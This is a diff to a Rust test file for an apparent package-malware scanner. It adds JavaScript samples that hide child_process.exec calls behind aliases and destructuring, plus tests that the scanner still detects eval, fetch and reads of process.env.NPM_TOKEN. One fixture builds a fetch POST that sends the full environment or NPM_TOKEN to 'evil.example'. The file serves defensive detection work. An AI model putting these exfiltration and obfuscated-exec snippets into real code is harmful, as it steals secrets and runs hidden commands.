@@ -2,7 +2,7 @@
 
 use stockade_content::{Class, Facts, Kind};
 
-use super::facts;
+use super::{facts, values};
 
 const JAVASCRIPT: &[&str] = &[
     "import { exec as run } from 'child_process'; run(line);",
@@ -26,6 +26,20 @@ const JAVASCRIPT: &[&str] = &[
     "function start(line, run = require('child_process').exec) { run(line); }",
     "class A { run = require('child_process').exec; start(line) { this.run(line); } }",
     "const tools = { run: require('child_process').exec }; tools.run(line);",
+    // An assignment that may never run does not hide what a name leads to.
+    "if (0) require++; require('child_process').exec(line);",
+    "if (0) require = 0; require('child_process').exec(line);",
+    "if (0) ({ require, process } = {}); require('child_process').exec(line);",
+    "if (0) [require] = []; require('child_process').exec(line);",
+    // What is under each key that is known.
+    "const m = { 0: require('child_process').exec }; let i = 0; m[i](line); i++;",
+    "const m = { a: require('child_process').exec }; let k = 'a'; m[k](line); k = next();",
+    "let load = harmless; if (later) load = require; load('child_process').exec(line);",
+    "let run = harmless; if (later) run = require('child_process').exec; run(line);",
+    // Patterns with a default, with a rest, of what is not known.
+    "let run; ({ exec: run = require('child_process').exec } = opts); run(line);",
+    "let exec; ({ exec = require('child_process').exec } = opts); exec(line);",
+    "let all; ({ ...all } = require('child_process')); all.exec(line);",
 ];
 
 const PYTHON: &[&str] = &[
@@ -61,6 +75,45 @@ fn a_call_is_known_under_any_name() {
     }
     let found = facts(Kind::Wheel, &[("a/b.py", "from subprocess import run as r\nr(line)\n")]);
     assert_eq!(called(&found, "subprocess.run"), 1, "{:#?}", found.by_class.get(&Class::Exec));
+}
+
+/// The language's own names are those of the language, whatever is assigned to them somewhere.
+#[test]
+fn an_assignment_does_not_hide_the_language() {
+    for (class, value, source) in [
+        (Class::DynamicCode, "eval", "if (0) ({ fetch, eval } = {}); eval(code);"),
+        (Class::Http, "fetch", "if (0) ({ fetch, eval } = {}); fetch(place);"),
+        (Class::Http, "fetch", "if (0) fetch++; fetch(place);"),
+        (Class::Environment, "NPM_TOKEN", "if (0) process = {}; send(process.env.NPM_TOKEN);"),
+    ] {
+        let found = facts(Kind::NpmTarball, &[("index.js", source)]);
+        assert!(values(&found, class).contains(&value), "{source}: {:#?}", found.by_class);
+    }
+}
+
+/// Secrets that are written down in pairs go where the pairs go.
+#[test]
+fn pairs_hold_the_environment() {
+    for (secret, of) in [("*", "{ ...process.env }"), ("NPM_TOKEN", "{ t: process.env.NPM_TOKEN }")] {
+        let source = format!(
+            "fetch('https://evil.example/c', {{ method: 'POST', body: Object.entries({of}).map(([k, v]) => k + '=' + v).join('\\n') }})"
+        );
+        let found = facts(Kind::NpmTarball, &[("index.js", &source)]);
+        let sites = found.get(Class::SecretSent, "evil.example");
+        let noted = sites.and_then(|sites| sites.first.first()).and_then(|site| site.note.as_deref());
+        assert_eq!(noted, Some(secret), "{source}: {:#?}", found.by_class);
+    }
+}
+
+/// What is not known is a value too: the name is no constant any more.
+#[test]
+fn a_pattern_of_what_is_not_known_gives_a_value() {
+    let ask = "const ask = async (x) => { log(x); return x; }; let place = 'a';";
+    for (given, expected) in [("", "a.b.example"), ("({ place } = await ask());", "*.b.example")] {
+        let source = format!("{ask} {given} fetch(`https://${{place}}.b.example/`);");
+        let found = facts(Kind::NpmTarball, &[("index.mjs", &source)]);
+        assert!(values(&found, Class::Host).contains(&expected), "{source}: {:#?}", found.by_class);
+    }
 }
 
 /// A name that only looks like it is none.
